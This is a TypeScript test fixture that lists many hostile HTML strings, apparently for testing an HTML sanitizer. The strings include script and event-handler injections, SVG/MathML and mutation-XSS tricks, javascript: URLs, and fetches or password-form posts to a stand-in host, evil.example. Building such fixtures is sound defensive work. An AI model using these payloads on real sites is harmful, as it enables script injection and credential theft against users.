/** Where a payload would send something, or have it fetched. */
const EVIL = 'https://evil.example';

/**
 * HTML that executes, fetches, navigates or restyles where somebody renders it: of each family that lists of such payloads
 * know, and those that live on being parsed twice. `HARM` stands in each, so that a test sees it run.
 */
export const HARM = 'window.harmed=1';

const handlers = ['onclick', 'onmouseover', 'onfocus autofocus', 'onbeforeinput', 'onanimationstart', 'onpointerenter'];

export const hostileHtml: readonly string[] = [
  // Scripts.
  `<script>${HARM}</script>`,
  `<script src="${EVIL}/a.js"></script>`,
  `<scr<script>ipt>${HARM}</scr</script>ipt>`,
  `<SCRIPT/X>${HARM}</SCRIPT>`,
  `<script type="module">import "${EVIL}/m.js"</script>`,
  `<<script>${HARM};//<</script>`,
  `<!--><script>${HARM}</script>-->`,
  `<script>/*</script><svg onload="${HARM}">*/</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${HARM}>">`,
  // Handlers.
  `<img src=x onerror=${HARM}>`,
  `<img/src/onerror=${HARM}>`,
  `<IMG """><SCRIPT>${HARM}</SCRIPT>">`,
  `<body onload=${HARM}>`,
  ...handlers.map((name) => `<p ${name}="${HARM}" tabindex=0>x</p>`),
  `<details open ontoggle=${HARM}><summary>x</summary></details>`,
  `<video><source onerror="${HARM}"></video>`,
  `<audio src=x onerror=${HARM}></audio>`,
  `<marquee onstart=${HARM}>x</marquee>`,
  `<input autofocus onfocus=${HARM} value="x">`,
  `<select autofocus onfocus=${HARM}><option>x</option></select>`,
  `<dialog open onclose=${HARM}><form method=dialog><button>x</button></form></dialog>`,
  // SVG and MathML.
  `<svg onload=${HARM}></svg>`,
  `<svg><script>${HARM}</script></svg>`,
  `<svg><animate onbegin=${HARM} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${HARM}"><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${HARM}</script></svg>#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${HARM}</script>"></iframe></foreignObject></svg>`,
  `<svg><set attributeName="href" to="javascript:${HARM}"/></svg>`,
  `<math><maction actiontype="statusline#${EVIL}" xlink:href="javascript:${HARM}">x</maction></math>`,
  `<math href="javascript:${HARM}">x</math>`,
  // Parsed twice (mXSS).
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${HARM}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${HARM}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${HARM}>">`,
  `<noembed><img title="</noembed><img src=x onerror=${HARM}>"></noembed>`,
  `<xmp><p title="</xmp><img src=x onerror=${HARM}>">`,
  `<textarea><script>${HARM}</script></textarea><textarea></textarea><img src=x onerror=${HARM}>`,
  `<template><img src=x onerror=${HARM}></template>`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${HARM}>">`,
  `<plaintext><img src=x onerror=${HARM}>`,
  `<svg><![CDATA[><img src=x onerror=${HARM}>]]></svg>`,
  // Addresses.
  `<a href="javascript:${HARM}">x</a>`,
  `<a href="java&#x0A;script:${HARM}">x</a>`,
  `<a href="&#106;avascript:${HARM}" target=_blank>x</a>`,
  `<a href="data:text/html,<script>${HARM}</script>">x</a>`,
  `<a href="${EVIL}" ping="${EVIL}/ping" download>x</a>`,
  `<area shape=default href="javascript:${HARM}"><map name=m></map>`,
  `<form action="javascript:${HARM}"><button formaction="javascript:${HARM}">x</button></form>`,
  `<form id=f action=${EVIL} method=post><input name=password type=password></form><button form=f>x</button>`,
  `<isindex action="javascript:${HARM}" type=submit value=x>`,
  // What is fetched, embedded or navigated by itself.
  `<iframe src="javascript:${HARM}"></iframe>`,
  `<iframe srcdoc="<script>parent.${HARM}</script>"></iframe>`,
  `<object data="data:text/html,<script>${HARM}</script>"></object>`,
  `<embed src="${EVIL}/x.swf">`,
  `<frameset><frame src="${EVIL}"></frameset>`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${HARM}">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  `<base href="${EVIL}/">`,
  `<link rel=stylesheet href="${EVIL}/x.css">`,
  `<link rel=prefetch href="${EVIL}/p"><link rel=dns-prefetch href="//evil.example">`,
  `<img src="${EVIL}/pixel.png" srcset="${EVIL}/2x.png 2x">`,
  `<video poster="${EVIL}/p.png" src="${EVIL}/v.mp4" autoplay></video>`,
  `<table background="${EVIL}/t.png"><td background="${EVIL}/c.png">x</table>`,
  `<portal src="${EVIL}"></portal><bgsound src="${EVIL}/s.mid">`,
  // Styles and what would stand for something of the page's own.
  `<style>body{display:none}@import "${EVIL}/x.css";</style>`,
  `<p style="position:fixed;inset:0;background:url(${EVIL}/b.png)">x</p>`,
  `<p class="wl-muted" id="root" data-testid="note-amend" contenteditable slot=x is=y part=z>x</p>`,
  `<a id=wardlight name=wardlight><a id=wardlight name=lock>x</a></a>`,
  `<img name=getElementById><form name=body><input name=firstChild></form>`,
  `<p dir=rtl lang=x title="x" accesskey=s hidden inert popover autofocus>x</p>`,
];
